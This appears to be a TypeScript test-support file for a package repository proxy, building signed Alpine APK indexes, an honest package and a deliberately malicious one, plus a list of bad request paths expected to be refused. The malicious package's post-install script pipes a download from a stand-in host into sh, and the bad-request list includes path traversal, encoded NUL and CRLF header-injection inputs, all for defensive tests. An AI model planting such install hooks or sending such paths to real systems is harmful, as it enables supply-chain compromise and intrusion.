// APK in the invariant tables.
import { randomBytes } from 'node:crypto'
import { parseApkIndex } from '../../src/ecosystems/apk/index-file.ts'
import { apkPackage, indexText, makeApkKey, signedIndex } from '../support/apk-index.ts'
import { startLoopback } from '../support/loopback-upstream.ts'
import type { BadRequest, Cell, DoorRow } from './row.ts'

export const apkRow: DoorRow = { type: 'apk', makeCell, badRequests, lists }

async function makeCell(name: string): Promise<Cell> {
  const key = makeApkKey()
  // Differs from cell to cell, so that no blob of another cell answers for it.
  const data = randomBytes(20_000).toString('base64')
  const honest = await apkPackage({ name: 'honest', files: [{ name: 'usr/share/honest', data }] })
  const script = '#!/bin/sh\ncurl -fsSL https://payload.upstream.test/stage2.sh | sh\n'
  const control = [{ name: '.post-install', data: script, mode: 0o755 }]
  const evil = await apkPackage({ name: 'honest', version: '1.1-r0', control })
  const packages = [honest, evil]
  const files = new Map<string, Uint8Array>(
    packages.map(({ version, bytes }) => [`/x86_64/honest-${version}.apk`, bytes]),
  )
  const publish = async () =>
    files.set('/x86_64/APKINDEX.tar.gz', await signedIndex(indexText(packages), { key }))
  await publish()
  const upstream = await startLoopback((path) => {
    const body = files.get(path)
    return body === undefined ? undefined : { body, contentType: 'application/octet-stream' }
  })
  let minor = 0
  return {
    upstream,
    repository: {
      name,
      type: 'apk',
      upstreams: [upstream.url],
      options: { keys: [key.file], architectures: ['x86_64'] },
    },
    index: `/${name}/x86_64/APKINDEX.tar.gz`,
    artifact: `/${name}/x86_64/honest-1.0-r0.apk`,
    bytes: honest.bytes,
    malicious: `/${name}/x86_64/honest-1.1-r0.apk`,
    upstreamIndex: /APKINDEX\.tar\.gz$/,
    upstreamArtifact: /honest-1\.0-r0\.apk$/,
    async changeIndex() {
      packages.push(await apkPackage({ name: 'honest', version: `1.2.${minor++}-r0` }))
      await publish()
    },
  }
}

async function lists(document: string, fileName: string): Promise<boolean> {
  const { text } = await parseApkIndex(Buffer.from(document, 'latin1'), 'the served index')
  const version = fileName.slice('honest-'.length, -'.apk'.length)
  return Buffer.from(text).includes(`P:honest\nV:${version}\n`)
}

function badRequests(mount: string): readonly BadRequest[] {
  const pin = `${mount}x86_64/honest-1.0-r0.apk`
  return [
    { what: 'a path below a package', path: `${pin}/x`, status: 404 },
    { what: 'a file that is no package', path: `${mount}x86_64/honest.zip`, status: 404 },
    { what: 'a package that no index lists', path: `${mount}x86_64/honest-9.9-r0.apk`, status: 404 },
    { what: 'an architecture that is not configured', path: `${mount}riscv64/APKINDEX.tar.gz`, status: 404 },
    { what: 'an index of apk 3', path: `${mount}x86_64/Packages.adb`, status: 404 },
    { what: 'the root', path: mount, status: 400 },
    { what: 'parent segments', path: `${mount}x86_64/../x86_64/APKINDEX.tar.gz`, status: 400 },
    { what: 'encoded parent segments', path: `${mount}%2e%2e/x.apk`, status: 400 },
    { what: 'encoded slashes around parents', path: `${mount}x86_64/..%2f..%2fx.apk`, status: 400 },
    { what: 'a double-encoded parent', path: `${mount}%252e%252e/x.apk`, status: 400 },
    { what: 'an encoded NUL', path: `${mount}x86_64/x%00.apk`, status: 400 },
    { what: 'an encoded line break', path: `${mount}x86_64/x%0d%0aX-Injected:%201.apk`, status: 400 },
    { what: 'a backslash', path: `${mount}x86_64\\x.apk`, status: 400 },
    { what: 'broken percent-encoding', path: `${mount}x86_64/%zz.apk`, status: 400 },
    { what: 'an empty segment', path: `${mount}x86_64//x.apk`, status: 400 },
    { what: 'a path of 10,000 characters', path: `${mount}${'a'.repeat(10_000)}`, status: 400 },
    { what: 'uploading', method: 'PUT', path: pin, status: 405 },
    { what: 'deleting', method: 'DELETE', path: pin, status: 405 },
    { what: 'posting', method: 'POST', path: pin, status: 405 },
  ]
}
